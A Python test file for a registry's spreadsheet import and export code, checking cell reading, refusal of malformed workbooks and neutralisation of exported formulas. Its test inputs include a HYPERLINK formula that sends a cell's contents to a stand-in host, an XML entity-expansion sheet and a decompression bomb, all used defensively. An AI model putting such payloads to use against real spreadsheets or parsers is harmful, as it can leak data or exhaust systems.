"""Spreadsheets as text: what cells become, what is refused in a sentence, and what goes out is no formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from registry.errors import Refused
from registry.files.columns import recognise
from registry.files.spreadsheet import ROWS, csv_of, read_spreadsheet, xlsx_of
from tests.support.documents import zipped

FORMULA = '=HYPERLINK("http://example.org/?"&A2,"A")'


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def workbook(*rows: Any, merged: str = "", sheets: tuple[str, ...] = ()) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    if merged:
        book.active.merge_cells(merged)
    for title in sheets:
        book.create_sheet(title)
    return saved(book)


def lines(data: bytes) -> list[tuple[int, list[str]]]:
    return [(line.number, line.cells) for line in read_spreadsheet("list.xlsx", data).lines]


def repacked(data: bytes, name: str, content: bytes) -> bytes:
    """The workbook with one part replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for part in before.namelist():
            after.writestr(part, content if part == name else before.read(part))
    return out.getvalue()


def test_cells_are_text_as_a_person_types_it():
    data = workbook(
        ["Practice code", "From", "n"],
        [],
        ["A81001", date(2011, 4, 1), 12.0],
        [" 00123 ", datetime(2011, 4, 1, 9, 30), 0.5],
        [FORMULA, True, None],
    )
    assert lines(data) == [
        (1, ["Practice code", "From", "n"]),
        (3, ["A81001", "2011-04-01", "12"]),
        (4, ["00123", "2011-04-01 09:30:00", "0.5"]),
        (5, [FORMULA, "TRUE"]),
    ]


def test_a_formula_is_never_the_value_that_a_program_left_beside_it():
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        b'<c r="A1" t="str"><f>CONCATENATE("A8","1001")</f><v>A81001</v></c></row></sheetData></worksheet>'
    )
    data = repacked(workbook(["x"]), "xl/worksheets/sheet1.xml", sheet)
    assert lines(data) == [(1, ['=CONCATENATE("A8","1001")'])]


def test_empty_sheets_and_a_far_empty_line_do_no_harm():
    data = workbook(["Practice code"], ["A81001"], sheets=("Sheet2", "Sheet3"))
    assert len(lines(data)) == 2
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    far = sheet.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')
    assert len(lines(repacked(data, "xl/worksheets/sheet1.xml", far))) == 2


def beyond(row: bytes) -> bytes:
    data = workbook(["Practice code"], ["A81001"])
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    return repacked(data, "xl/worksheets/sheet1.xml", sheet.replace(b"</sheetData>", row + b"</sheetData>"))


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    b'<c r="A1" t="str"><v>&b;</v></c></row></sheetData></worksheet>'
)
OLE = b"\xd0\xcf\x11\xe0" + bytes(600)


def of_version(data: bytes, version: int) -> bytes:
    """The archive whose last part says that this version is needed to unpack it."""
    at = data.rindex(b"PK\x01\x02") + 6
    return data[:at] + bytes([version]) + data[at + 1 :]


NAMED_AMISS = zipped({"xl/workbook.xml": b"", "xl/é.xml": b""}).replace("é".encode(), b"\xff\xfe")
REFUSED = [
    pytest.param(b"", "is empty", id="empty"),
    pytest.param(workbook(), "holds no rows", id="no rows"),
    pytest.param(OLE, "old Excel format", id="xls"),
    pytest.param(OLE + "EncryptedPackage".encode("utf-16-le"), "locked with a password", id="encrypted"),
    pytest.param(b"PK\x03\x04 nothing", "no workbook", id="damaged zip"),
    pytest.param(workbook(["a"])[:-40], "no workbook", id="cut off"),
    pytest.param(of_version(workbook(["a"]), 99), "no workbook", id="version"),
    pytest.param(NAMED_AMISS, "no workbook", id="name in no UTF-8"),
    pytest.param(repacked(workbook(["a"]), "xl/worksheets/sheet1.xml", b"<no"), "damaged", id="damaged sheet"),
    pytest.param(repacked(workbook(["a"]), "xl/worksheets/sheet1.xml", ENTITIES), "damaged", id="entities"),
    pytest.param(repacked(workbook(["a"]), "xl/worksheets/sheet1.xml", bytes(20 << 20)), "unpacks to far more", id="bomb"),
    pytest.param(beyond(b'<row r="99999999999"><c r="A1" t="n"><v>1</v></c></row>'), "more lines than a sheet", id="far"),
    pytest.param(workbook(["List of members", ""], ["Code", "x"], merged="A1:B1"), "A1:B1 in line 1", id="merged"),
    pytest.param(b"code\r\n" + b"A81001\r\n" * (ROWS + 1), "more than 50,000 rows", id="long"),
]  # fmt: skip


@pytest.mark.parametrize(("data", "said"), REFUSED)
def test_what_is_no_list_is_refused_in_a_sentence(data: bytes, said: str):
    with pytest.raises(Refused, match=re.escape(said)) as refused:
        read_spreadsheet("list", data)
    assert refused.value.field == "file" and refused.value.message.startswith("list ") or said in refused.value.message


def test_several_sheets_with_something_in_them_are_named():
    book = Workbook()
    book.active.append(["Code"])
    book.create_sheet("Old").append(["Code"])
    with pytest.raises(Refused, match="2 sheets with something in them: “Sheet”, “Old”"):
        read_spreadsheet("list.xlsx", saved(book))


def test_csv_in_the_habits_of_other_countries():
    table = read_spreadsheet("list.csv", b"Code;From\r\nA81001;2011-04-01\r\n")
    assert [line.cells for line in table.lines] == [["Code", "From"], ["A81001", "2011-04-01"]]


def test_columns_are_known_by_name_in_any_order():
    wanted = {"practice": ("practice code", "code"), "from": ("from", "joined on")}
    columns = recognise(["Notes", "JOINED_ON", " Practice  Code "], wanted)
    assert (columns.places, columns.unknown) == ({"practice": 2, "from": 1}, ["Notes"])
    with pytest.raises(Refused, match="Two columns are named “Code”"):
        recognise(["Code", "code"], wanted)


def test_what_goes_out_is_no_formula():
    words = [FORMULA, "+1", "-1", "@x", "plain"]
    [told] = csv.reader(io.StringIO(csv_of([words]).decode("utf-8-sig")))
    assert told == ["'" + w for w in words[:-1]] + ["plain"]
    [row] = load_workbook(io.BytesIO(xlsx_of([words]))).active.iter_rows()
    assert [(c.data_type, c.value) for c in row] == [("s", w) for w in told]


def test_every_csv_file_of_the_product_is_written_by_the_one_writer():
    root = Path(__file__).parents[4]
    writers = [
        str(path.relative_to(root))
        for app in ("registry", "practices", "consortia", "transitions", "pathfinders")
        for path in (root / app).rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8") or "DictWriter" in path.read_text(encoding="utf-8")
    ]
    # the demonstration writes files in the layout of the NHS, which the register reads and nobody is given
    assert sorted(writers) == ["pathfinders/demonstration/files.py", "registry/api/delimited.py"]
